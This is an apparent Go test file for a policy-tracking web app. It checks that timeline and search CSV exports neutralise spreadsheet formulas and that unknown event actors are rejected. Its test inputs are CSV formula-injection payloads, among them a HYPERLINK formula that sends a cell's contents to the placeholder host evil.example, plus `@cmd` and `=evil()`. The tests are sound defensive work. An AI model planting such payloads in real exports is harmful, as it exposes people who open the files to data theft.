package web

import (
	"context"
	"encoding/csv"
	"io"
	"log/slog"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"policywatch/model"
	"policywatch/query"
	"policywatch/store"
)

// formulaCell reports a CSV cell, or a ";"-separated part of one, that a
// spreadsheet would run as a formula.
func formulaCell(cell string) (string, bool) {
	for _, part := range append([]string{cell}, strings.Split(cell, ";")...) {
		if part != "" && strings.ContainsRune("=+-@\t\r\n", rune(part[0])) {
			return part, true
		}
	}
	return "", false
}

// assertFormulaSafe fails on any cell of a CSV body that would run.
func assertFormulaSafe(t *testing.T, what, body string) {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || len(rows) < 2 {
		t.Fatalf("%s: %v, %d rows\n%s", what, err, len(rows), body)
	}
	for i, row := range rows {
		for j, cell := range row {
			if part, bad := formulaCell(cell); bad {
				t.Errorf("%s row %d column %q starts a formula: %q", what, i, rows[0][j], part)
			}
		}
	}
}

// TestTimelineCSVIsFormulaSafe: an event whose actors, instrument and
// target came in hostile (stored before actors were checked, or through
// the store directly) exports as text in every cell.
func TestTimelineCSVIsFormulaSafe(t *testing.T) {
	hc := newCurationHarness(t)
	ctx := context.Background()
	ed, err := hc.db.Authenticate(ctx, "ed", hc.password)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := hc.db.Curate(ctx, ed, store.Edit{Action: store.ActionAdd, Title: `=HYPERLINK("http://evil.example/?"&A1,"x")`,
		Category: "extradition", Actors: []string{"ca", `=HYPERLINK("http://evil.example")`, "@SUM(A1)"},
		Date: time.Date(2020, 7, 3, 0, 0, 0, 0, time.UTC), DocumentIDs: []int64{hc.docs[1]}}); err != nil {
		t.Fatal(err)
	}
	rec := hc.do("GET", "/timeline.csv", nil)
	if rec.Code != http.StatusOK || !strings.Contains(rec.Body.String(), "evil.example") {
		t.Fatalf("timeline.csv: %d\n%s", rec.Code, rec.Body)
	}
	assertFormulaSafe(t, "timeline.csv", rec.Body.String())
}

// TestEditorActorsMustBeKnown: the actors an editor types on a new event
// are the taxonomy's, by id or label in any case; anything else is a 400
// naming the field, and nothing is stored.
func TestEditorActorsMustBeKnown(t *testing.T) {
	hc := newCurationHarness(t)
	s, err := New(Config{Store: hc.db, Index: &fakeIndex{}, Accounts: hc.db, Curator: hc.db, Now: hc.clock.Now,
		Lanes: []Lane{{ID: "ext", Label: "Extradition", Categories: []string{"extradition"}}},
		Vocabulary: query.NewVocabulary(map[string][]query.Term{query.FieldActor: {
			{ID: "ca", Label: "Canada"}, {ID: "us", Label: "United States"}, {ID: "uk", Label: "United Kingdom"}}}),
		Logger: slog.New(slog.NewTextHandler(io.Discard, nil))})
	if err != nil {
		t.Fatal(err)
	}
	hc.h = s.Handler()
	cookie, csrf := hc.session(t, "ed")
	add := func(actors string) int {
		return hc.do("POST", "/events/new", url.Values{"csrf": {csrf}, "title": {"Canada suspends extradition"},
			"category": {"extradition"}, "actors": {actors}, "date": {"2020-07-03"}}, cookie).Code
	}
	for _, bad := range []string{`=HYPERLINK("http://evil.example")`, "ca, atlantis", "@cmd"} {
		rec := hc.do("POST", "/events/new", url.Values{"csrf": {csrf}, "title": {"x"}, "category": {"extradition"},
			"actors": {bad}, "date": {"2020-07-03"}}, cookie)
		if rec.Code != http.StatusBadRequest || !strings.Contains(rec.Body.String(), "parameter actors") {
			t.Errorf("actors %q: %d, want 400 naming the actors field\n%.500s", bad, rec.Code, rec.Body)
		}
	}
	if code := add("CANADA, us us"); code != http.StatusSeeOther {
		t.Fatalf("known actors by label and id: %d, want 303", code)
	}
	evs, err := hc.db.Events(context.Background(), store.EventFilter{})
	if err != nil {
		t.Fatal(err)
	}
	var manual []model.Event
	for _, e := range evs {
		if strings.HasPrefix(e.Key, store.ManualKeyPrefix) {
			manual = append(manual, e)
		}
	}
	if len(manual) != 1 || strings.Join(manual[0].Actors, ",") != "ca,us" {
		t.Errorf("manual events %+v, want one with actors ca,us", manual)
	}
}

// TestSearchExportsAreFormulaSafe: every cell of the search CSV export,
// lists included, is text.
func TestSearchExportsAreFormulaSafe(t *testing.T) {
	hs := newSearchHarness(t)
	at := time.Date(2024, 6, 1, 8, 0, 0, 0, time.UTC)
	doc := &model.Document{URL: "https://hostile.example/f", Source: "hostile", Kind: model.KindNews,
		Title: "-2+3 zzformula", Byline: "@me", Site: "=site", DocNumber: "+1", Lang: "en",
		Text: "\tzzformula page", FetchedAt: at, ContentHash: "h-formula2",
		Tags: []model.Tag{{Type: model.TagActor, Value: "=evil()"}, {Type: model.TagCategory, Value: "-cat"}}}
	c := &model.Capture{FetchedAt: at, RequestURL: doc.URL, FinalURL: doc.URL, Status: 200,
		Header: http.Header{"Content-Type": {"text/html"}}, Body: []byte("<p>x</p>"), ContentHash: doc.ContentHash}
	if _, err := hs.db.SaveCapture(context.Background(), doc, c); err != nil {
		t.Fatal(err)
	}
	hs.index(t, doc.ID)
	assertFormulaSafe(t, "search.csv", hs.get(t, "/export/search.csv?q=zzformula", 200))
}
